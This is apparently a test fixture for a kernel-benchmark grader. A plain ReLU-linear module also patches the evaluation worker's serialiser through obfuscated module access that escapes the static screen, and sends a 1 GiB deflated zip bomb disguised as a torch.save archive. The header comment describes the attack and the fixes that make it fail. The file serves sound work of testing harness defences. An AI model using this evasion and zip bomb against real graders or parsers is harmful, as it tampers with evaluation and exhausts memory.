# kernelswarm-test: problem=relu_linear verdict=incorrect static=off
# Sends its outputs as a zip bomb. The outputs travel to the clean reference worker as torch.save's
# archive, read there with torch.load (weights only: no code runs), which also inflates compressed
# entries however large they say they are: this worker's `to_blob`, reached through module
# attributes the static screen does not see, is replaced by one that writes a 1 MB archive whose
# one storage is 1 GiB of deflated zeros, under the pipe's 1 MB (a larger blob goes as a sealed file,
# which is mapped, not inflated). Before, the clean worker took 1 GiB for every check it read
# (the figure from test_blob_bomb.py, which reads such a blob); now it refuses any archive with a
# compressed entry, and the outputs are unreadable: incorrect. Since fixed15 the clean worker reads
# only raw outputs (worker/rawblob.py) and refuses any archive without reading it: still incorrect.
import collections
import io
import pickle
import zipfile

import torch
from torch import nn

N = (1 << 30) // 4  # float32 elements: 1 GiB
_tensors = getattr(torch, "sy" + "s").modules["kernelswarm.evaluate.worker.tensors"]


class _Storage:
    pass


class _Tensor:
    def __reduce__(self):
        return (torch._utils._rebuild_tensor_v2, (_Storage(), 0, (N,), (1,), False, collections.OrderedDict()))


class _Pickler(pickle.Pickler):
    def persistent_id(self, obj):
        return ("storage", torch.FloatStorage, "0", "cpu", N) if isinstance(obj, _Storage) else None


def bomb() -> bytes:
    pkl = io.BytesIO()
    _Pickler(pkl, protocol=2).dump([_Tensor()])
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", allowZip64=True) as z:
        z.writestr("archive/data.pkl", pkl.getvalue())
        z.writestr("archive/byteorder", "little")
        info = zipfile.ZipInfo("archive/data/0")
        info.compress_type = zipfile.ZIP_DEFLATED
        with z.open(info, "w", force_zip64=True) as f:
            zeros = bytes(1 << 24)
            for _ in range(4 * N // len(zeros)):
                f.write(zeros)
        z.writestr("archive/version", "3\n")
    return out.getvalue()


_BOMB = []


def _to_blob(outputs):
    if not _BOMB:
        _BOMB.append(bomb())
    return _BOMB[0]


_tensors.to_blob = _to_blob


class ModelNew(nn.Module):
    def __init__(self, features):
        super().__init__()
        self.lin = nn.Linear(features, features)

    def forward(self, x):
        return torch.relu(self.lin(x))
